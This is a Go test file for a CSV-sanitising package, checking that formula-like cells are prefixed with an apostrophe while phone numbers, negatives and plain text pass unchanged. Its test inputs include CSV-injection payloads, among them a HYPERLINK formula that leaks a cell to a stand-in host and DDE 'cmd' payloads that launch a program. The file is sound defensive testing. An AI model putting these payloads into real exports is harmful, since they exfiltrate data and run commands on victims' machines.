package csvsafe

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestFormulaCellsAreText(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"Click")`: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		`=cmd|' /C calc'!A0`:                             `'=cmd|' /C calc'!A0`,
		"+cmd|x":                                         "'+cmd|x",
		"-2+3+cmd|' /C calc'!A0":                         "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)":                                      "'@SUM(1+1)",
		"\t=1+1":                                         "'\t=1+1",
		"\r=1+1":                                         "'\r=1+1",
		"-":                                              "'-",
		"+":                                              "'+",
		"-12.5":                                          "-12.5",
		"+33 6 12 34 56 78":                              "+33 6 12 34 56 78",
		"+1 (555) 010-9999":                              "+1 (555) 010-9999",
		"ana@example.com":                                "ana@example.com",
		"Zoé = reine":                                    "Zoé = reine",
		"":                                               "",
	}
	for in, want := range cases {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// The file written reads back (as CSV) with the apostrophe in front of
// formula cells only, whichever separator is used.
func TestWriterNeutralisesEveryRecord(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	w.Comma = ';'
	w.Write([]string{"email", "note"})
	w.WriteAll([][]string{{"ana@example.com", "=1+1"}, {"@x", "ok"}})
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(buf.String()))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"email", "note"}, {"ana@example.com", "'=1+1"}, {"'@x", "ok"}}
	for i := range want {
		for j := range want[i] {
			if recs[i][j] != want[i][j] {
				t.Errorf("row %d col %d: %q, want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}
}
